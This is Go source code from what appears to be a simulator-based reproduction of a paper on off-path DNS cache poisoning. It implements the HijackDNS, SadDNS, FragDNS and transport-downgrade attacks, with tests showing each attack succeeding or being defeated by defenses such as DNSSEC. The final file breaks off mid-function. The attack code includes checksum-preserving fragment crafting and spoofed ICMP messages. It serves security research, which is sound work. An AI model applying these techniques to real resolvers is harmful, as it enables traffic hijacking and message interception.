	srvName := "_xmpp-server._tcp.vict.im."
	atk := &core.SadDNS{
		Attacker: s.Attacker, ResolverAddr: scenario.ResolverIP, NSAddr: scenario.NSIP,
		Spoof: core.Spoof{QName: srvName, QType: dnswire.TypeSRV,
			Records: []*dnswire.RR{dnswire.NewSRV(srvName, 300, 0, 0, apps.XMPPServerPort, "xmpp.atk.example.")}},
		PortMin: 32768, PortMax: 32768 + 399,
		MuteQPS: 20, MaxIterations: 25,
		CheckSuccess: func() bool {
			rrs, _, ok := s.Resolver.Cache.Get(srvName, dnswire.TypeSRV)
			if !ok {
				return false
			}
			for _, rr := range rrs {
				if srv, isSrv := rr.Data.(*dnswire.SRVData); isSrv && dnswire.InBailiwick(srv.Target, "atk.example.") {
					return true
				}
			}
			return false
		},
	}
	trigger := core.TriggerFunc(func() {
		xp.SendMessage("target@vict.im", "probe", func(apps.Outcome, netip.Addr) {})
	})
	res := atk.Run(trigger)
	if !res.Success {
		t.Fatalf("saddns failed: %+v", res)
	}
	var at netip.Addr
	xp.SendMessage("target@vict.im", "the confidential message", func(_ apps.Outcome, addr netip.Addr) { at = addr })
	s.Run()
	if at != scenario.AttackerIP {
		t.Fatalf("federation went to %v, want attacker", at)
	}
	found := false
	for _, line := range evil.Transcript {
		if line == "xmpp-s2s the confidential message" {
			found = true
		}
	}
	if !found {
		t.Fatal("attacker did not capture the message")
	}
}
