// Package core implements the paper's primary contribution: the three
// off-path DNS cache-poisoning methodologies of §3 —
//
//   - HijackDNS: intercept the resolver's query with a BGP sub-prefix
//     (or same-prefix) hijack and answer it with spoofed records,
//     copying the challenge values from the intercepted query (§3.1).
//   - SadDNS: infer the resolver's ephemeral source port through the
//     global ICMP rate-limit side channel, mute the nameserver with
//     its own response-rate limiting, and brute-force the 16-bit TXID
//     (§3.2, Figure 1).
//   - FragDNS: force the nameserver to fragment its response with a
//     spoofed ICMP Fragmentation Needed, plant a crafted second
//     fragment in the resolver's defragmentation cache, and let it
//     reassemble with the genuine first fragment carrying the
//     challenge values (§3.3, Figure 2).
//
// All three produce a Result with the telemetry Table 6 compares:
// packets sent, queries triggered, duration, success.
package core

import (
	"time"

	"crosslayer/internal/dnswire"
)

// Spoof describes the record set an attack tries to inject: the
// question it answers and the malicious RRs.
type Spoof struct {
	QName string
	QType dnswire.Type
	// Records are the answer RRs of the forged response. For FragDNS
	// only the address of the first A record is used (the crafted
	// fragment patches rdata in place).
	Records []*dnswire.RR
}

// Result is the outcome and telemetry of one attack run.
type Result struct {
	Success bool
	// Method is the attack name ("HijackDNS", "SadDNS", "FragDNS").
	Method string
	// Iterations counts attack rounds (triggered queries raced).
	Iterations int
	// AttackerPackets counts packets the attacker sent.
	AttackerPackets uint64
	// QueriesTriggered counts queries forced through the victim
	// resolver.
	QueriesTriggered int
	// Duration is elapsed virtual time.
	Duration time.Duration
	// Detail carries method-specific notes (e.g. the port found).
	Detail string
}

// Trigger causes the victim resolver to issue one upstream query for
// the attack's target name; done runs when the triggering application
// exchange completes or fails. Implementations include a direct client
// lookup, an open forwarder, and the application-level triggers
// (email bounce etc.) in internal/apps.
type Trigger func(done func())

// Attack is the shared contract of the three methodologies: run the
// attack against a triggered query and report the Table 6 telemetry.
// The campaign sweep (internal/campaign) drives every methodology
// through this interface.
type Attack interface {
	Run(trigger Trigger) Result
}

var (
	_ Attack = (*HijackDNS)(nil)
	_ Attack = (*SadDNS)(nil)
	_ Attack = (*FragDNS)(nil)
)
