package core_test

import (
	"net/netip"
	"testing"

	"crosslayer/internal/bgp"
	"crosslayer/internal/core"
	"crosslayer/internal/dnssrv"
	"crosslayer/internal/dnswire"
	"crosslayer/internal/netsim"
	"crosslayer/internal/packet"
	"crosslayer/internal/resolver"
	"crosslayer/internal/scenario"
)

func spoofA(name string) core.Spoof {
	return core.Spoof{
		QName: name, QType: dnswire.TypeA,
		Records: []*dnswire.RR{dnswire.NewA(name, 300, scenario.AttackerIP)},
	}
}

// --- HijackDNS ---

func TestHijackDNSSubPrefixPoisonsCache(t *testing.T) {
	s := scenario.New(scenario.Config{Seed: 21})
	atk := &core.HijackDNS{
		Attacker:     s.Attacker,
		HijackPrefix: netip.MustParsePrefix("123.0.0.0/24"), // covers ns1.vict.im
		NSAddr:       scenario.NSIP,
		Spoof:        spoofA("www.vict.im."),
	}
	res := atk.Run(core.TriggerDirect(s.ClientHost, scenario.ResolverIP, "www.vict.im.", dnswire.TypeA))
	if !res.Success {
		t.Fatalf("hijack failed: %+v", res)
	}
	if !s.Poisoned("www.vict.im.", dnswire.TypeA) {
		t.Fatal("cache not poisoned")
	}
	if res.QueriesTriggered != 1 || res.Iterations != 1 {
		t.Fatalf("telemetry: %+v", res)
	}
	// Table 6: HijackDNS needs ~2 attacker packets (announcement +
	// spoofed response).
	if res.AttackerPackets > 3 {
		t.Fatalf("hijack used %d packets; should be ~2", res.AttackerPackets)
	}
	// Routing must be healed after withdraw.
	if origin, _ := s.RIB.Resolve(scenario.VictimAS, scenario.NSIP); origin != scenario.DomainAS {
		t.Fatal("hijack not withdrawn")
	}
}

func TestHijackDNSMoreSpecificThan24Filtered(t *testing.T) {
	s := scenario.New(scenario.Config{Seed: 22})
	atk := &core.HijackDNS{
		Attacker:     s.Attacker,
		HijackPrefix: netip.MustParsePrefix("123.0.0.0/25"),
		NSAddr:       scenario.NSIP,
		Spoof:        spoofA("www.vict.im."),
	}
	res := atk.Run(core.TriggerDirect(s.ClientHost, scenario.ResolverIP, "www.vict.im.", dnswire.TypeA))
	if res.Success {
		t.Fatal("filtered /25 hijack should fail")
	}
	if s.Poisoned("www.vict.im.", dnswire.TypeA) {
		t.Fatal("cache poisoned despite filtered announcement")
	}
}

func TestHijackDNSDefeatedByDNSSECValidation(t *testing.T) {
	prof := resolver.ProfileBIND
	prof.ValidateDNSSEC = true
	s := scenario.New(scenario.Config{Seed: 23, Profile: prof, SignVictimZone: true})
	atk := &core.HijackDNS{
		Attacker:     s.Attacker,
		HijackPrefix: netip.MustParsePrefix("123.0.0.0/24"),
		NSAddr:       scenario.NSIP,
		Spoof:        spoofA("www.vict.im."),
	}
	// The query IS intercepted (success=true at the interception
	// level) but the unsigned spoofed answer must not enter the cache.
	atk.Run(core.TriggerDirect(s.ClientHost, scenario.ResolverIP, "www.vict.im.", dnswire.TypeA))
	if s.Poisoned("www.vict.im.", dnswire.TypeA) {
		t.Fatal("validating resolver accepted unsigned hijack response")
	}
	if s.Resolver.ValidationFailed == 0 {
		t.Fatal("validation failure not recorded")
	}
}

// --- SadDNS ---

// sadScenario narrows the resolver's port range so tests converge in a
// handful of iterations (the full 28k-port scan is exercised by the
// Table 6 benchmark).
func sadScenario(t *testing.T, seed int64, mutate func(*scenario.Config)) (*scenario.S, *core.SadDNS) {
	t.Helper()
	cfg := scenario.Config{Seed: seed}
	cfg.ServerCfg = dnssrv.DefaultConfig()
	cfg.ServerCfg.RateLimit = true
	cfg.ServerCfg.RateLimitQPS = 10
	if mutate != nil {
		mutate(&cfg)
	}
	s := scenario.New(cfg)
	s.ResolverHost.Cfg.PortMin = 32768
	s.ResolverHost.Cfg.PortMax = 32768 + 399 // 400-port range
	atk := &core.SadDNS{
		Attacker:      s.Attacker,
		ResolverAddr:  scenario.ResolverIP,
		NSAddr:        scenario.NSIP,
		Spoof:         spoofA("www.vict.im."),
		PortMin:       32768,
		PortMax:       32768 + 399,
		MuteQPS:       20,
		MaxIterations: 20,
		CheckSuccess:  func() bool { return s.Poisoned("www.vict.im.", dnswire.TypeA) },
	}
	return s, atk
}

func TestSadDNSPoisonsVulnerableResolver(t *testing.T) {
	s, atk := sadScenario(t, 31, nil)
	res := atk.Run(core.TriggerDirect(s.ClientHost, scenario.ResolverIP, "www.vict.im.", dnswire.TypeA))
	if !res.Success {
		t.Fatalf("SadDNS failed: %+v (spoofRejected=%d accepted=%d)",
			res, s.Resolver.SpoofRejected, s.Resolver.Accepted)
	}
	if !s.Poisoned("www.vict.im.", dnswire.TypeA) {
		t.Fatal("cache not poisoned")
	}
	// The TXID flood means tens of thousands of packets (Table 6's
	// "Total traffic" shape: SadDNS ≫ FragDNS ≫ Hijack).
	if res.AttackerPackets < 1<<16 {
		t.Fatalf("only %d attacker packets; a TXID flood is missing", res.AttackerPackets)
	}
	// Flood packets preceding the matching TXID are rejected; packets
	// after it hit the already-closed port.
	if s.Resolver.SpoofRejected < 1000 {
		t.Fatalf("resolver rejected %d spoofs; flood not observed", s.Resolver.SpoofRejected)
	}
}

func TestSadDNSDefeatedByPerIPRateLimit(t *testing.T) {
	s, atk := sadScenario(t, 32, nil)
	s.ResolverHost.Cfg.ICMPLimitMode = netsim.ICMPLimitPerIP
	atk.MaxIterations = 5
	res := atk.Run(core.TriggerDirect(s.ClientHost, scenario.ResolverIP, "www.vict.im.", dnswire.TypeA))
	if res.Success || s.Poisoned("www.vict.im.", dnswire.TypeA) {
		t.Fatal("patched (per-IP) resolver was still poisoned")
	}
}

func TestSadDNSDefeatedBy0x20(t *testing.T) {
	s, atk := sadScenario(t, 33, func(cfg *scenario.Config) {
		prof := resolver.ProfileBIND
		prof.Use0x20 = true
		cfg.Profile = prof
	})
	atk.MaxIterations = 6
	res := atk.Run(core.TriggerDirect(s.ClientHost, scenario.ResolverIP, "www.vict.im.", dnswire.TypeA))
	if res.Success || s.Poisoned("www.vict.im.", dnswire.TypeA) {
		t.Fatal("0x20 resolver was poisoned by an all-lowercase flood")
	}
}

func TestSadDNSNeedsMuting(t *testing.T) {
	// Without muting the genuine response wins the race immediately:
	// the port closes before the scan can finish.
	s, atk := sadScenario(t, 34, func(cfg *scenario.Config) {
		cfg.ServerCfg.RateLimit = false
	})
	atk.MuteQPS = 0
	atk.MaxIterations = 3
	res := atk.Run(core.TriggerDirect(s.ClientHost, scenario.ResolverIP, "www.vict.im.", dnswire.TypeA))
	if res.Success {
		t.Fatal("attack succeeded although the genuine response was never delayed")
	}
	// The genuine record is in the cache instead.
	if !s.Resolver.Cache.Contains("www.vict.im.", dnswire.TypeA) || s.Poisoned("www.vict.im.", dnswire.TypeA) {
		t.Fatal("genuine resolution did not complete")
	}
}

// --- FragDNS ---

func fragScenario(t *testing.T, seed int64, mutate func(*scenario.Config)) (*scenario.S, *core.FragDNS) {
	t.Helper()
	cfg := scenario.Config{Seed: seed}
	cfg.ServerCfg = dnssrv.DefaultConfig()
	cfg.ServerCfg.PadAnswersTo = 1200
	if mutate != nil {
		mutate(&cfg)
	}
	s := scenario.New(cfg)
	atk := &core.FragDNS{
		Attacker:      s.Attacker,
		ResolverAddr:  scenario.ResolverIP,
		NSAddr:        scenario.NSIP,
		QName:         "www.vict.im.",
		QType:         dnswire.TypeA,
		SpoofAddr:     scenario.AttackerIP,
		ForcedMTU:     68, // clamped to the server's floor (552)
		ResolverEDNS:  resolver.ProfileBIND.EDNSSize,
		PredictIPID:   true,
		IPIDGuesses:   64,
		MaxIterations: 4,
		CheckSuccess:  func() bool { return s.Poisoned("www.vict.im.", dnswire.TypeA) },
	}
	return s, atk
}

func TestFragDNSPoisonsGlobalIPIDServer(t *testing.T) {
	s, atk := fragScenario(t, 41, nil)
	res := atk.Run(core.TriggerDirect(s.ClientHost, scenario.ResolverIP, "www.vict.im.", dnswire.TypeA))
	if !res.Success {
		t.Fatalf("FragDNS failed: %+v", res)
	}
	if !s.Poisoned("www.vict.im.", dnswire.TypeA) {
		t.Fatal("cache not poisoned")
	}
	if res.Iterations != 1 {
		t.Fatalf("predictable IPID should succeed on iteration 1, took %d", res.Iterations)
	}
	// Table 6 shape: FragDNS needs far fewer packets than SadDNS.
	if res.AttackerPackets > 1000 {
		t.Fatalf("FragDNS used %d packets", res.AttackerPackets)
	}
}

func TestFragDNSRandomIPIDRarelySucceeds(t *testing.T) {
	s, atk := fragScenario(t, 42, nil)
	s.NSHost.Cfg.IPIDMode = netsim.IPIDRandom
	atk.PredictIPID = false
	atk.IPIDGuesses = 8
	atk.MaxIterations = 2
	res := atk.Run(core.TriggerDirect(s.ClientHost, scenario.ResolverIP, "www.vict.im.", dnswire.TypeA))
	if res.Success {
		t.Fatal("random-IPID attack succeeded with 16 guesses (p≈0.02%); suspicious")
	}
}

func TestFragDNSDefeatedByUnfragmentableResponse(t *testing.T) {
	// Small responses never fragment: no attack surface.
	s, atk := fragScenario(t, 43, func(cfg *scenario.Config) {
		cfg.ServerCfg.PadAnswersTo = 0
	})
	res := atk.Run(core.TriggerDirect(s.ClientHost, scenario.ResolverIP, "www.vict.im.", dnswire.TypeA))
	if res.Success || s.Poisoned("www.vict.im.", dnswire.TypeA) {
		t.Fatal("attack succeeded without fragmentation")
	}
}

func TestFragDNSDefeatedByAnswerOrderRandomization(t *testing.T) {
	s, atk := fragScenario(t, 44, func(cfg *scenario.Config) {
		cfg.ServerCfg.RandomizeOrder = true
	})
	atk.MaxIterations = 3
	res := atk.Run(core.TriggerDirect(s.ClientHost, scenario.ResolverIP, "www.vict.im.", dnswire.TypeA))
	if res.Success || s.Poisoned("www.vict.im.", dnswire.TypeA) {
		t.Fatal("randomised answer order should break checksum prediction")
	}
}

func TestFragDNSDefeatedByFragmentDroppingResolver(t *testing.T) {
	s, atk := fragScenario(t, 45, nil)
	s.ResolverHost.Cfg.AcceptFragments = false
	atk.MaxIterations = 2
	res := atk.Run(core.TriggerDirect(s.ClientHost, scenario.ResolverIP, "www.vict.im.", dnswire.TypeA))
	if res.Success || s.Poisoned("www.vict.im.", dnswire.TypeA) {
		t.Fatal("frag-dropping resolver was poisoned")
	}
}

func TestFragDNSDefeatedByPMTUDIgnoringServer(t *testing.T) {
	s, atk := fragScenario(t, 46, nil)
	s.NSHost.Cfg.HonorPMTUD = false
	res := atk.Run(core.TriggerDirect(s.ClientHost, scenario.ResolverIP, "www.vict.im.", dnswire.TypeA))
	if res.Success {
		t.Fatal("server ignoring PTB still fragmented")
	}
}

// --- CraftSecondFragment unit properties ---

func TestCraftSecondFragmentPreservesChecksum(t *testing.T) {
	s := scenario.New(scenario.Config{Seed: 47, ServerCfg: func() dnssrv.Config {
		c := dnssrv.DefaultConfig()
		c.PadAnswersTo = 1200
		return c
	}()})
	q := dnswire.NewQuery(0x7777, "www.vict.im.", dnswire.TypeA)
	q.SetEDNS(4096, false)
	resp := s.NS.BuildResponse(q)
	dnsWire, err := resp.Pack()
	if err != nil {
		t.Fatal(err)
	}
	// Genuine UDP datagram as the server would send it.
	u := &packet.UDP{SrcPort: 53, DstPort: 40000, Payload: dnsWire}
	genuine, err := u.Serialize(nil, scenario.NSIP, scenario.ResolverIP)
	if err != nil {
		t.Fatal(err)
	}
	const mtu = 552
	frag2, fragOff, ok := core.CraftSecondFragment(dnsWire, mtu, scenario.AttackerIP)
	if !ok {
		t.Fatal("craft failed")
	}
	if fragOff%8 != 0 {
		t.Fatalf("fragment offset %d not 8-aligned", fragOff)
	}
	// Splice: genuine first fragment + crafted tail.
	spliced := append(append([]byte(nil), genuine[:fragOff]...), frag2...)
	if len(spliced) != len(genuine) {
		t.Fatalf("length changed: %d vs %d", len(spliced), len(genuine))
	}
	out, err := packet.DecodeUDP(spliced, scenario.NSIP, scenario.ResolverIP, true)
	if err != nil {
		t.Fatalf("spliced datagram failed checksum: %v", err)
	}
	msg, err := dnswire.Unpack(out.Payload)
	if err != nil {
		t.Fatalf("spliced DNS unparseable: %v", err)
	}
	var lastA *dnswire.AData
	for _, rr := range msg.Answers {
		if rr.Type == dnswire.TypeA {
			lastA = rr.Data.(*dnswire.AData)
		}
	}
	if lastA == nil || lastA.Addr != scenario.AttackerIP {
		t.Fatalf("spliced answer A = %v, want attacker", lastA)
	}
}

func TestCraftRefusesWhenRecordInFirstFragment(t *testing.T) {
	// A small response where the A record would sit in fragment 1.
	s := scenario.New(scenario.Config{Seed: 48})
	q := dnswire.NewQuery(1, "www.vict.im.", dnswire.TypeA)
	resp := s.NS.BuildResponse(q)
	wire, _ := resp.Pack()
	if _, _, ok := core.CraftSecondFragment(wire, 552, scenario.AttackerIP); ok {
		t.Fatal("craft should refuse unfragmentable/unreachable targets")
	}
}

func TestSamePrefixInterceptionRateOnScenarioTopo(t *testing.T) {
	s := scenario.New(scenario.Config{Seed: 49})
	pairs := [][2]bgp.ASN{{scenario.DomainAS, scenario.AttackerAS}}
	rate := core.SamePrefixInterceptionRate(s.Topo, scenario.DomainPrefix, pairs)
	if rate < 0 || rate > 1 {
		t.Fatalf("rate = %f", rate)
	}
}

// --- defense interactions (the campaign matrix's defense dimension) ---

// TestFragDNSDefeatedByDNSSEC: against a signed zone and a validating
// resolver the crafted fragment cannot carry a valid signature over
// the rewritten rdata (CraftSecondFragment clears the A-covering RRSIG
// marker), so the reassembled answer is rejected as bogus and the
// cache stays clean — §6.1's "DNSSEC prevents the attacks".
func TestFragDNSDefeatedByDNSSEC(t *testing.T) {
	cfg := scenario.Config{Seed: 45, Defenses: []scenario.DefenseSpec{scenario.DefenseDNSSEC()}}
	cfg.ServerCfg = dnssrv.DefaultConfig()
	cfg.ServerCfg.PadAnswersTo = 1200
	s := scenario.New(cfg)
	atk := &core.FragDNS{
		Attacker: s.Attacker, ResolverAddr: scenario.ResolverIP, NSAddr: scenario.NSIP,
		QName: "www.vict.im.", QType: dnswire.TypeA, SpoofAddr: scenario.AttackerIP,
		ForcedMTU: 68, ResolverEDNS: resolver.ProfileBIND.EDNSSize, ResolverDO: true,
		PredictIPID: true, IPIDGuesses: 16, MaxIterations: 3,
		CheckSuccess: func() bool { return s.Poisoned("www.vict.im.", dnswire.TypeA) },
	}
	res := atk.Run(core.TriggerDirect(s.ClientHost, scenario.ResolverIP, "www.vict.im.", dnswire.TypeA))
	if res.Success || s.Poisoned("www.vict.im.", dnswire.TypeA) {
		t.Fatalf("FragDNS beat DNSSEC validation: %+v", res)
	}
	if s.Resolver.ValidationFailed == 0 {
		t.Fatal("validator never saw the bogus reassembly")
	}
}

// TestHijackDNSDefeatedByDNSSEC: the interception copies the challenge
// values but cannot sign the spoofed records, so a validating resolver
// discards the forged answer.
func TestHijackDNSDefeatedByDNSSEC(t *testing.T) {
	s := scenario.New(scenario.Config{Seed: 46, Defenses: []scenario.DefenseSpec{scenario.DefenseDNSSEC()}})
	atk := &core.HijackDNS{
		Attacker:     s.Attacker,
		HijackPrefix: netip.MustParsePrefix("123.0.0.0/24"),
		NSAddr:       scenario.NSIP,
		Spoof:        spoofA("www.vict.im."),
	}
	res := atk.Run(core.TriggerDirect(s.ClientHost, scenario.ResolverIP, "www.vict.im.", dnswire.TypeA))
	if !res.Success {
		t.Fatalf("interception itself should still answer: %+v", res)
	}
	if s.Poisoned("www.vict.im.", dnswire.TypeA) {
		t.Fatal("unsigned spoofed answer entered a validating cache")
	}
}

// TestCraftSecondFragmentClearsRRSIGMarker checks the byte-level
// craft: given a signed padded response, the crafted tail has the
// spoofed address in place, a cleared A-covering RRSIG validity byte,
// and an unchanged 16-bit ones-complement sum.
func TestCraftSecondFragmentClearsRRSIGMarker(t *testing.T) {
	cfg := dnssrv.DefaultConfig()
	cfg.PadAnswersTo = 1200
	s := scenario.New(scenario.Config{Seed: 47, SignVictimZone: true, ServerCfg: cfg})
	q := dnswire.NewQuery(1, "www.vict.im.", dnswire.TypeA)
	q.SetEDNS(4096, true)
	wire, err := s.NS.BuildResponse(q).Pack()
	if err != nil {
		t.Fatal(err)
	}
	const mtu = 552
	frag2, fragOff, ok := core.CraftSecondFragment(wire, mtu, scenario.AttackerIP)
	if !ok {
		t.Fatal("craft refused a signed fragmentable response")
	}
	// Reassemble: genuine head + crafted tail, then strip the UDP
	// header and decode the DNS message.
	udp := make([]byte, 0, len(wire)+8)
	udp = append(udp, make([]byte, 8)...)
	udp = append(udp, wire...)
	reassembled := append(append([]byte(nil), udp[:fragOff]...), frag2...)
	msg, err := dnswire.Unpack(reassembled[8:])
	if err != nil {
		t.Fatalf("crafted reassembly does not parse: %v", err)
	}
	var spoofed, aSigValid bool
	for _, rr := range msg.Answers {
		if a, ok := rr.Data.(*dnswire.AData); ok && a.Addr == scenario.AttackerIP {
			spoofed = true
		}
		if sig, ok := rr.Data.(*dnswire.RRSIGData); ok && sig.Covered == dnswire.TypeA && sig.Valid {
			aSigValid = true
		}
	}
	if !spoofed {
		t.Fatal("spoofed address missing from reassembly")
	}
	if aSigValid {
		t.Fatal("A-covering RRSIG still marked valid after rdata rewrite")
	}
	sum := func(b []byte) (s int64) {
		for i, v := range b {
			if i%2 == 0 {
				s += int64(v) * 256
			} else {
				s += int64(v)
			}
			s %= 65535
		}
		return s
	}
	if sum(udp[fragOff:]) != sum(frag2) {
		t.Fatalf("checksum sum changed: genuine %d crafted %d", sum(udp[fragOff:]), sum(frag2))
	}
}
