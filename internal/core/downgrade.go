package core

import (
	"fmt"

	"crosslayer/internal/netsim"
)

// downgradeJunkPackets is the disruption traffic the attacker fires at
// each opportunistic hop's encrypted service port while breaking its
// handshake (spoofed RSTs / QUIC garbage). The count only matters for
// honest packet accounting — the downgrade itself is modeled as the
// hop's ForceDowngrade transition.
const downgradeJunkPackets = 8

// downgradeSecurePort is the representative encrypted DNS service port
// the disruption burst targets (DoT's 853; the specific number is
// accounting colour, not mechanism).
const downgradeSecurePort = 853

// Downgrade is the active transport-downgrade attack against
// opportunistic encryption: before launching an inner cache-poisoning
// attack, the attacker disrupts the encrypted upstream session of
// every opportunistic hop it can see, so the hop falls back to
// plaintext UDP and re-exposes the classic spoofable port/TXID
// surface. Strict hops are untouched — they fail closed rather than
// fall back, which is exactly the deployment choice this attack
// measures the cost of.
type Downgrade struct {
	Attacker *netsim.Host
	// Hops is the victim's resolution chain (scenario.Hops mapped to
	// core.Hop); only entries with Opportunistic and a ForceDowngrade
	// hook are attacked.
	Hops []Hop
	// Build constructs the inner attack AFTER the downgrade landed, so
	// its target selection (WeakestPortHop etc.) sees the
	// post-downgrade chain.
	Build func() Attack
}

var _ Attack = (*Downgrade)(nil)

// Run strips every opportunistic hop back to plaintext UDP, then runs
// the inner attack against the downgraded chain. The disruption
// packets are added to the inner result's attacker-packet count.
func (d *Downgrade) Run(trigger Trigger) Result {
	junk := []byte("downgrade")
	stripped := 0
	var pkts uint64
	for _, h := range d.Hops {
		if !h.Opportunistic || h.ForceDowngrade == nil {
			continue
		}
		// Keep re-handshake attempts failing for the rest of the trial,
		// then flip the hop: its next upstream exchange would fail and
		// fall back anyway, ForceDowngrade just skips the detour.
		d.Attacker.Network().BlockSecure(h.Addr, h.Upstream)
		if !h.ForceDowngrade() {
			continue
		}
		stripped++
		for i := 0; i < downgradeJunkPackets; i++ {
			d.Attacker.SendUDP(uint16(41000+i), h.Addr, downgradeSecurePort, junk)
			pkts++
		}
	}
	res := d.Build().Run(trigger)
	res.AttackerPackets += pkts
	if stripped > 0 {
		res.Detail = fmt.Sprintf("downgraded %d opportunistic hop(s); %s", stripped, res.Detail)
	}
	return res
}
