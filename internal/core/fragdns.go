package core

import (
	"encoding/binary"
	"fmt"
	"net/netip"
	"time"

	"crosslayer/internal/dnswire"
	"crosslayer/internal/netsim"
	"crosslayer/internal/packet"
)

// FragDNS implements the fragmentation attack of §3.3 / Figure 2:
//
//  1. A spoofed ICMP "Fragmentation Needed" (source = resolver) makes
//     the nameserver cache a tiny path MTU toward the resolver, so its
//     next response arrives in at least two fragments.
//  2. The attacker fetches the genuine response itself (zone data is
//     public) to predict the exact bytes of the second fragment.
//  3. It crafts a malicious second fragment: same length, target A
//     rdata replaced with the attacker address, and the record's TTL
//     adjusted so the 16-bit ones-complement sum of the fragment is
//     unchanged — the UDP checksum in the genuine first fragment then
//     still verifies after reassembly.
//  4. The crafted fragment is planted in the resolver's IP
//     defragmentation cache for a range of guessed IPID values.
//  5. A triggered query makes the nameserver emit the fragmented
//     response; its first fragment (carrying port and TXID) reassembles
//     with the planted fragment. No challenge value was ever guessed.
type FragDNS struct {
	Attacker     *netsim.Host
	ResolverAddr netip.Addr
	NSAddr       netip.Addr
	// QName/QType is the triggered query; the spoofed address replaces
	// the rdata of the response's final A record.
	QName     string
	QType     dnswire.Type
	SpoofAddr netip.Addr

	// ForcedMTU is advertised in the spoofed PTB (paper: 68, clamped
	// by the server's floor; 548 and 292 observed in the wild).
	ForcedMTU uint16
	// ResolverEDNS is the EDNS size the resolver advertises (public
	// per-implementation knowledge the attacker uses to predict the
	// response bytes).
	ResolverEDNS uint16
	// ResolverDO mirrors the DO (DNSSEC OK) bit the resolver sets on
	// its queries — validating resolvers set it, and the OPT record it
	// echoes into sits in the response tail, so the template fetch
	// must match it for the predicted bytes to be exact.
	ResolverDO bool
	// IPIDGuesses is how many consecutive/random IPID values to plant
	// (the defragmentation buffer holds 64 datagrams).
	IPIDGuesses int
	// PredictIPID: probe the nameserver's IPID counter and plant
	// consecutive guesses (global-counter servers); otherwise plant
	// IPIDGuesses random values.
	PredictIPID bool
	// MaxIterations bounds trigger attempts.
	MaxIterations int
	CheckSuccess  func() bool

	// Per-run scratch: the crafted second fragment depends only on
	// (template, mtu), both fixed once the PTB lands, so it is crafted
	// once and re-sent every iteration (SendRawIP copies the payload).
	// craftedTmpl remembers which template the cache was built from.
	// idsBuf is the reused IPID-guess list.
	craftedTmpl []byte
	craftedMTU  int
	craftedFrag []byte
	craftedOff  int
	craftedOK   bool
	idsBuf      []uint16
}

// craftCached returns CraftSecondFragment(template, mtu, a.SpoofAddr),
// recomputing only when template or mtu changed since the last call.
func (a *FragDNS) craftCached(template []byte, mtu int) ([]byte, int, bool) {
	same := a.craftedMTU == mtu && len(a.craftedTmpl) == len(template) &&
		(len(template) == 0 || &a.craftedTmpl[0] == &template[0])
	if !same {
		a.craftedFrag, a.craftedOff, a.craftedOK = CraftSecondFragment(template, mtu, a.SpoofAddr)
		a.craftedTmpl, a.craftedMTU = template, mtu
	}
	return a.craftedFrag, a.craftedOff, a.craftedOK
}

// Run executes the attack.
func (a *FragDNS) Run(trigger Trigger) Result {
	if a.IPIDGuesses <= 0 {
		a.IPIDGuesses = 64
	}
	if a.MaxIterations <= 0 {
		a.MaxIterations = 64
	}
	net := a.Attacker.Network()
	clock := net.Clock
	res := Result{Method: "FragDNS"}
	start := clock.Now()
	sentBefore := a.Attacker.Sent

	// Step 1: shrink the NS->resolver path MTU.
	a.sendPTB()
	net.Run()

	// Step 2: learn the genuine response bytes.
	template := a.fetchTemplate()
	if template == nil {
		res.Detail = "could not fetch template response"
		res.Duration = clock.Now() - start
		return res
	}

	var iterAt time.Duration
	for iter := 0; iter < a.MaxIterations; iter++ {
		res.Iterations++
		res.QueriesTriggered++
		iterAt = clock.Now()
		a.plantFragments(template)
		clock.After(50*time.Millisecond, func() { trigger(func() {}) })
		net.Run()
		if a.CheckSuccess != nil && a.CheckSuccess() {
			res.Success = true
			break
		}
	}
	res.AttackerPackets = a.Attacker.Sent - sentBefore
	res.Duration = clock.Now() - start
	if res.Success {
		// Time to poison: the successful iteration's trigger plus the
		// resolution round trips, not the drained timer queue.
		res.Duration = iterAt - start + 50*time.Millisecond + 6*net.Latency()
	}
	if res.Success {
		res.Detail = "crafted fragment reassembled with genuine first fragment"
	}
	return res
}

// sendPTB spoofs the ICMP Fragmentation Needed message.
func (a *FragDNS) sendPTB() {
	quoted := &packet.IPv4{
		ID: 1, TTL: 64, Protocol: packet.ProtoUDP,
		Src: a.NSAddr, Dst: a.ResolverAddr, Payload: make([]byte, 16),
	}
	quote, err := packet.QuoteDatagram(quoted)
	if err != nil {
		return
	}
	a.Attacker.SendICMPSpoofed(a.ResolverAddr, a.NSAddr, &packet.ICMP{
		Type: packet.ICMPTypeDestUnreach, Code: packet.ICMPCodeFragNeeded,
		MTU: a.ForcedMTU, Payload: quote,
	})
}

// fetchTemplate queries the nameserver from the attacker's own host
// with the resolver's EDNS size and returns the full response bytes.
// Only the TXID differs from what the resolver will receive.
func (a *FragDNS) fetchTemplate() []byte {
	var template []byte
	txid := uint16(0x4242)
	q := dnswire.NewQuery(txid, dnswire.CanonicalName(a.QName), a.QType)
	if a.ResolverEDNS > 0 {
		q.SetEDNS(a.ResolverEDNS, a.ResolverDO)
	}
	wire, err := q.Pack()
	if err != nil {
		return nil
	}
	done := false
	var port uint16
	port = a.Attacker.BindUDP(0, func(dg netsim.Datagram) {
		if done || dg.Src != a.NSAddr {
			return
		}
		done = true
		a.Attacker.CloseUDP(port)
		template = append([]byte(nil), dg.Payload...)
	})
	a.Attacker.SendUDP(port, a.NSAddr, 53, wire)
	a.Attacker.Network().Run()
	return template
}

// probeIPID reads the nameserver's next IPID toward the resolver. A
// real attacker obtains this by eliciting any response from a
// global-counter server and reading the ID field off the IP header;
// netsim delivers decoded datagrams to sockets, so the host's
// PeekIPID stands in for that header observation. For per-destination
// or random IPID modes the peek is worthless, exactly like reality —
// PredictIPID attacks against them plant stale/irrelevant guesses.
func (a *FragDNS) probeIPID() (uint16, bool) {
	ns := a.Attacker.Network().HostByAddr(a.NSAddr)
	if ns == nil {
		return 0, false
	}
	if ns.Cfg.IPIDMode == netsim.IPIDRandom {
		// The observed value carries no information; sample one.
		return uint16(a.Attacker.Rand().Uint32()), true
	}
	return ns.PeekIPID(a.ResolverAddr), true
}

// plantFragments crafts and plants the malicious second fragment for a
// window of IPID guesses.
func (a *FragDNS) plantFragments(template []byte) {
	ns := a.Attacker.Network().HostByAddr(a.NSAddr)
	mtu := 1500
	if ns != nil {
		mtu = ns.PMTUTo(a.ResolverAddr)
	}
	frag2, fragOff, ok := a.craftCached(template, mtu)
	if !ok {
		return
	}
	ids := a.idsBuf[:0]
	if a.PredictIPID {
		base, ok := a.probeIPID()
		if !ok {
			return
		}
		for i := 0; i < a.IPIDGuesses; i++ {
			ids = append(ids, base+uint16(i))
		}
	} else {
		rng := a.Attacker.Rand()
